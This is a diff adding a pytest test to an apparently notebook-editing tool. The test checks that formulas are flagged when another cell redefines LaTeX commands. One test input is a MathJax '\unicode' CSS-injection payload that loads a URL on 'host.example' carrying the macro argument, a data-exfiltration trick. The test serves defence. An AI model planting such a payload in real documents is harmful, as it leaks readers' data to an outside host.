@@ -290,6 +290,27 @@ async def test_however_long_an_address_is_its_host_is_shown(call: Call, blank: P
         assert HOST in answer["text"]
 
 
+@pytest.mark.parametrize(
+    ("defined", "asks"),
+    [
+        (r"$\def\a#1{\unicode[x;background:url(//host.example/#1)]{x41}}$", True),
+        (r"$\let\a\unicode$", True),
+        (r"$\expandafter\let\expandafter\a\csname uni code\endcsname$", True),
+        (r"$\newcommand{\a}[1]{\mathbb{#1}}$", False),
+        ("A [link](http://host.example) and $x$", False),
+    ],
+)
+async def test_a_formula_is_asked_about_where_another_cell_may_have_turned_its_commands(
+    call: Call, path: Path, defined: str, asks: bool
+) -> None:
+    nbformat.write(new_notebook(cells=[new_markdown_cell(defined, id="m")]), path)
+    for source in (r"$\a{secret}$", r"So $$\frac{secret}{1}$$"):
+        answer = await use(call, "create_cell", mode="edit", type="markdown", source=source)
+        assert answer["is_error"] == asks, answer
+    words = await use(call, "create_cell", mode="edit", type="markdown", source="Only $x$.")
+    assert not words["is_error"]
+
+
 async def test_a_person_edits_what_they_like(call: Call, blank: Path) -> None:
     body = {"source": PICTURE, "type": "markdown"}
     assert (await call("POST", "notebooks", PATH, "cells", body=body)).status == 201
